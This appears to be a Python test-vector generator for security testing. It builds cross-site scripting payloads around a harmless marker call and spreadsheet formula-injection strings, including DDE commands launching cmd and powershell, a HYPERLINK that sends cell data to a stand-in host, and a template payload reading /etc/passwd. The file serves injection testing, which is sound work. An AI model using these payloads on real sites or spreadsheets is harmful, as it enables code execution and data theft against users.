"""What somebody types to have it run in the browser or the spreadsheet of somebody else.

Each vector that would run calls `zqloop()`, so that a browser can tell; made from what is known to
work (an element, an event, a way to end what it stands in, a way to hide the word).
"""

from itertools import product

ROEP = "zqloop()"
UITBRAAK = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "]]>", "}}", "</time>")
ELEMENTEN = (
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script>",
    "<body onload={0}>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video src=x onerror={0}>",
    "<audio src=x onerror={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<iframe src=javascript:parent.{0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
    "<form><button formaction=javascript:{0} autofocus onfocus={0}>x</button></form>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={0}></p>",
    "<marquee onstart={0}>x</marquee>",
    "<script>{0}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=javascript:{0}//>",
)
VERMOMMINGEN = (
    lambda s: s,
    str.upper,
    lambda s: s.replace("<", "<\x0c", 1),
    lambda s: s.replace(" ", "/"),
    lambda s: s.replace(" ", "\t"),
    lambda s: s.replace("=", "\n=\n", 1),
    lambda s: f"<{s}",
    lambda s: s.replace("(", "&lpar;").replace(")", "&rpar;"),
)
LOS = (
    f"javascript:{ROEP}",
    f'" onmouseover="{ROEP}" x="',
    f"' onfocus='{ROEP}' autofocus x='",
    f"{{{{constructor.constructor('{ROEP}')()}}}}",
    "{% include 'ui/html.html' %}{{ request.session }}{% debug %}",
    f"${{{ROEP}}}`${{{ROEP}}}`",
    "\u202e<script>",
    "＜script＞zqloop()＜/script＞",
    "&lt;script&gt;zqloop()&lt;/script&gt;",
    "%3Cscript%3Ezqloop()%3C/script%3E",
    "\\u003cscript\\u003ezqloop()\\u003c/script\\u003e",
    '#eval("1") #read("/etc/passwd") $x$ *b* _i_ `r` <label> @ref',
)


def vectoren() -> list[str]:
    """All of them, each once."""
    gemaakt = [
        vermom(f"{uit}{element.format(ROEP)}")
        for uit, element, vermom in product(UITBRAAK, ELEMENTEN, VERMOMMINGEN)
    ]
    return sorted({*gemaakt, *LOS})


TEKENS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")
VOORAF = ("", " ", "\u00a0", "\ufeff", "  ", "\x00", "\x00 ", "\u200b"[:0] + " \u00a0")
FORMULES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://kwaad.voorbeeld.nl?x="&A1,"klik")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML("http://kwaad.voorbeeld.nl","//a")',
    'WEBSERVICE("http://kwaad.voorbeeld.nl")',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C powershell'!A0",
    "A1",
    '"";=1+1',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)


def formules() -> list[str]:
    """What a spreadsheet would take for a formula, with what may stand before it."""
    return sorted({f"{v}{t}{f}" for v, t, f in product(VOORAF, TEKENS, FORMULES)})
